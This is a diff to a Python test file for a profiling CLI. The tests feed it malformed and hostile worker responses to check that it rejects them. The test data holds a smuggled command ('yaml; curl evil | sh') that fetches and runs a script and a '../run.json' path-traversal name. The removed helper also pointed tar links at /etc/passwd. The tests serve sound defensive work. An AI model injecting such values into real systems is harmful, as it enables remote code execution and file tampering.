@@ -3,16 +3,15 @@
 from __future__ import annotations
 
 import base64
-import io
 import json
 import sys
-import tarfile
 from pathlib import Path
 from typing import Any
 
 import psutil
 import pytest
 
+from profkit.execution.places.files import PIECE, pack_piece
 from tests.cli_runner import Said, profkit
 
 HOSTILE = Path(__file__).with_name("hostile_place.py")
@@ -23,16 +22,16 @@ SWEEP = ("sweep", "--device", "cpu", *GRID)
 EVALUATE = ("evaluate", "kernels.py", "--device", "cpu")
 
 
-def sent(*members: tuple[str, bytes], kind: bytes = tarfile.REGTYPE, cut: int = 0) -> dict[str, Any]:
-    """The message of a tar with these files."""
-    packed = io.BytesIO()
-    with tarfile.open(fileobj=packed, mode="w:gz") as tar:
-        for name, data in members:
-            member = tarfile.TarInfo(name)
-            member.size, member.type, member.linkname = len(data), kind, "/etc/passwd"
-            tar.addfile(member, io.BytesIO(data))
-    whole = packed.getvalue()
-    return {"event": "data", "data": base64.b64encode(whole[: len(whole) - cut]).decode()}
+def sent(*files: tuple[str, bytes], cut: int = 0) -> list[dict[str, Any]]:
+    """The messages of these files, packed as ours are; without the last bytes of each."""
+    pieces = [
+        (name, data[at : at + PIECE]) for name, data in files for at in range(0, max(1, len(data)), PIECE)
+    ]
+    packed = ((name, pack_piece(piece)) for name, piece in pieces)
+    return [
+        {"event": "data", "name": name, "data": base64.b64encode(piece[: len(piece) - cut]).decode()}
+        for name, piece in packed
+    ]
 
 
 def opened(about: Any, *messages: Any) -> list[Any]:
@@ -59,6 +58,7 @@ def ask(folder: Path, verb: tuple[str, ...], **said: Any) -> Said:
     return profkit(*verb, *on, *command, cwd=work, process=False)
 
 
+TEXT = ("run.json", b"{}")
 WORKER = {"device": "X", "versions": {"torch": "2"}, "roofs": {}}
 
 
@@ -70,6 +70,21 @@ WORKER = {"device": "X", "versions": {"torch": "2"}, "roofs": {}}
         (RUN, {"hello": {"missing": ["yaml"]}}, "has no yaml"),
         (
             RUN,
+            {"hello": {"missing": ["yaml; curl evil | sh"]}},
+            "it lacks 'yaml; curl evil | sh', which nobody",
+        ),
+        (
+            RUN,
+            {"answers": [{"event": "fault", "exit": 130, "message": "interrupted"}]},
+            "interrupted (somebody ended it there, not here)",
+        ),
+        (
+            SWEEP,
+            {"answers": [{"event": "fault", "exit": 130, "message": "interrupted"}]},
+            "interrupted (somebody ended it there, not here)",
+        ),
+        (
+            RUN,
             {"answers": [{"event": "fault", "exit": [1], "message": None}]},
             "it failed, and said no reason",
         ),
@@ -78,10 +93,10 @@ WORKER = {"device": "X", "versions": {"torch": "2"}, "roofs": {}}
             {"answers": [{"event": "progress", "call": [], "words": [10**400]}, RESULT]},
             "holds no run.json",
         ),
-        (RUN, {"answers": [sent(("run.json", b"{}")), RESULT]}, "is no run: cannot read run.json"),
-        (RUN, {"answers": [sent(*[("run.json", b"{}")] * 2), RESULT]}, "run.json comes twice"),
-        (RUN, {"answers": [sent(("run.json", b"{}"), cut=20), RESULT]}, "cannot be unpacked"),
-        (RUN, {"answers": [sent(("../run.json", b"{}")), RESULT]}, "comes back with the name '../run.json'"),
+        (RUN, {"answers": [*sent(("run.json", b"{}")), RESULT]}, "is no run: cannot read run.json"),
+        (RUN, {"answers": [*sent(TEXT, ("x", b""), TEXT), RESULT]}, "'run.json' comes twice"),
+        (RUN, {"answers": [*sent(TEXT, cut=4), RESULT]}, "it cannot be unpacked: a piece is cut off"),
+        (RUN, {"answers": [*sent(("../run.json", b"{}")), RESULT]}, "holds no run.json"),
         (RUN, {"answers": [{"event": "data", "data": 3}, RESULT]}, "no piece of a file"),
         (RUN, {"answers": ["x" * (17 << 20)]}, "wrote what is no answer"),
         (RUN, {"answers": [{"event": "said"}]}, "said 'said', which was not asked"),
